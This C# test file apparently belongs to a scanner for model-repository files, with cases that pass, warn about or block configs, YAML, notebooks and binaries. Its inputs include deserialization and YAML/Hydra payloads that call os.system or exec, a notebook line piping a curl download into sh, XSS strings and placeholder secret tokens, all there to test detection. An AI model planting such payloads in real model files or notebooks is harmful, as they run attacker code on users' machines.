using System.Text;
using static Merlon.Scanning.Tests.Content.ContentCases;

namespace Merlon.Scanning.Tests.Content;

public sealed class TextTests
{
    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    internal static string Notebook(string source, string output = "", string type = "code") => $$$"""
        {"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"{{{type}}}","metadata":{},"source":[{{{source}}}],"outputs":[{"output_type":"display_data","data":{"text/html":["{{{output}}}"]}}]}]}
        """;

    [Theory]
    [InlineData("README.md", "# Model\n\n```python\nfrom transformers import AutoModel\nm = AutoModel.from_pretrained('x')\n```\nWorks. Ünïcode.\n", "text")]
    [InlineData("config.json", """{"architectures":["LlamaForCausalLM"],"hidden_size":64,"trust_remote_code":false,"class_name":"x"}""", "json")]
    [InlineData("vocab.json", """{"<unk>":0,"_target_s":1}""", "json")]
    [InlineData("data.jsonl", "{\"a\":1}\n{\"a\":2}\n", "json")]
    [InlineData("c.yaml", "model:\n  name: x\n  list: [1, 2]\n  tagged: !!str 5\n", "yaml")]
    [InlineData("pyproject.toml", "[tool]\nname = \"x\"\n", "text")]
    [InlineData("merges.txt", "#version: 0.2\na b\nĠ t\n", "text")]
    [InlineData("empty.txt", "", "text")]
    [InlineData("prose.txt", "From here we import goods. MZ is no program.\n", "text")]
    [InlineData("MZ.txt", "MZ is the mark of a program, and this is not one; it is only a text that happens to begin as one does.\n", "text")]
    [InlineData("hash.txt", "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 sk-learn AKIA\n", "text")]
    public void Scan_OrdinaryText_Passes(string name, string text, string format) => Passes(name, Bytes(text), format);

    [Fact]
    public void Scan_OrdinaryNotebook_Passes() => Passes("n.ipynb", Bytes(Notebook("\"import numpy as np\\n\",\"x != 3\"", "<table border='1'><tr><td>1</td></tr></table>")), "notebook");

    [Theory]
    [InlineData("notes.txt", "cos\nsystem\n(S'id'\ntR.", "pickle.call")]
    [InlineData("a.txt", "#!/usr/bin/env python3\n", "executable.script")]
    [InlineData("env", "k=AKIAIOSFODNN7EXAMPLE", "file.secret")]
    [InlineData("a.json", """{"t":"glpat-abcdefghij0123456789"}""", "file.secret")]
    [InlineData("a.yaml", "a: !!python/object/apply:os.system [id]\n", "text.yaml-tag")]
    [InlineData("a.yaml", "a: !python/name:os.system 1\n", "text.yaml-tag")]
    [InlineData("a.yaml", "a: !<tag:example.org,2000:x> 1\n", "text.yaml-tag")]
    [InlineData("a.yaml", "_target_: os.system\n_args_: [id]\n", "text.hydra-target")]
    [InlineData("a.yaml", "\"\\x5ftarget_\": builtins.exec\n", "text.hydra-target")]
    [InlineData("a.yaml", "{_target_: os.system}\n", "text.hydra-target")]
    [InlineData("a.yaml", "a: [\n_target_: os.system\n", "text.hydra-target")]
    [InlineData("a.yaml", "a: [\nb: !!python/name:os.system x\n", "text.yaml-tag")]
    [InlineData("a.json", """{"m":{"_target_":"subprocess.Popen"}}""", "text.hydra-target")]
    [InlineData("a.json", """{"m":{"\u005ftarget_":"torch.nn.Linear.__init__.__globals__"}}""", "text.hydra-target")]
    [InlineData("a.json", """{"a":1,}{"_target_": "os.system"}""", "text.hydra-target")]
    public void Scan_HostileText_IsBlocked(string name, string text, string rule) => Blocks(name, Bytes(text), rule);

    [Theory]
    [InlineData("config.json", """{"auto_map":{"AutoModel":"m.M"}}""", "file.remote-code")]
    [InlineData("config.json", """{"\u0061uto_map":{"AutoModel":"m.M"}}""", "file.remote-code")]
    [InlineData("config.json", """{"trust_remote_code":true}""", "file.remote-code")]
    [InlineData("model_index.json", """{"custom_pipeline":"x/y"}""", "file.remote-code")]
    [InlineData("config.yaml", "trust_remote_code: true\n", "file.remote-code")]
    [InlineData("c.toml", "trust_remote_code = true\n", "file.remote-code")]
    [InlineData("a.yaml", "a: !own 1\n", "text.yaml-tag")]
    [InlineData("a.yaml", "_target_: torch.nn.Linear\n", "text.hydra-target")]
    [InlineData("modeling.py", "x = 1\n", "text.python")]
    [InlineData("innocent.txt", "# notes\nimport os\nos.system('id')\n", "text.python")]
    [InlineData("a.txt", "safe \u202Etxt.exe", "text.bidi-control")]
    [InlineData("config.json", "{broken", "text.malformed")]
    public void Scan_SuspiciousText_Warns(string name, string text, string rule) => Warns(name, Bytes(text), rule);

    [Theory]
    [InlineData("\"!pip install x\"", "", "notebook.shell")]
    [InlineData("\"%%bash\\n\",\"ls\"", "", "notebook.shell")]
    [InlineData("\"get_ipython().system('id')\"", "", "notebook.shell")]
    [InlineData("\"1\"", "<script>alert(1)</script>", "notebook.script-output")]
    [InlineData("\"1\"", "<img src=x onerror=alert(1)>", "notebook.script-output")]
    public void Scan_NotebookThatRunsThings_Warns(string source, string output, string rule) => Warns("n.ipynb", Bytes(Notebook(source, output)), rule);

    [Theory]
    [InlineData("\"!curl https://x.example/a.sh | sh\"")]
    [InlineData("\"exec(requests.get('https://x.example').text)\"")]
    public void Scan_NotebookThatRunsWhatItDownloads_IsBlocked(string source) => Blocks("n.json", Bytes(Notebook(source)), "notebook.download-execute");

    [Fact]
    public void Scan_TextThatGoesOnAsBinary_IsBlocked()
    {
        Blocks("a.txt", [.. Enumerable.Repeat((byte)'a', Limits.SniffBytes), 0, 1, 2], "file.not-text");
        Blocks("a.txt", [1, 2, 3], "file.unknown");
        // A character that the head cuts in two.
        Passes("a.txt", [.. Enumerable.Repeat((byte)'a', Limits.SniffBytes - 1), .. "ü"u8], "text");
    }

    public static TheoryData<byte[]> Executables() => new()
    {
        { [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1] },
        { [0xCF, 0xFA, 0xED, 0xFE, 0, 0] },
        { [.. "MZ"u8, .. new byte[58], 64, 0, 0, 0, .. "PE\0\0"u8] },
        { [.. "MZ"u8, 0x90, .. new byte[57], 0, 1, 0, 0] },
        { [0, (byte)'a', (byte)'s', (byte)'m', 1] },
    };

    [Theory]
    [MemberData(nameof(Executables))]
    public void Scan_Executable_IsBlockedWhateverItsName(byte[] content) => Blocks("weights.bin", content, "executable.binary");

    [Fact]
    public void Scan_TextAndYamlAtAndOverTheBound_PassAndBlock()
    {
        static byte[] Text(int size) => [.. Enumerable.Repeat((byte)'a', size)];
        Passes("a.txt", Text(Texts.Limits.TextBytes), "text");
        Blocks("a.txt", Text(Texts.Limits.TextBytes + 1), "file.too-large");
        Passes("a.yaml", Text(Texts.Limits.YamlBytes), "yaml");
        Blocks("a.yaml", Text(Texts.Limits.YamlBytes + 1), "file.too-large");
    }
}
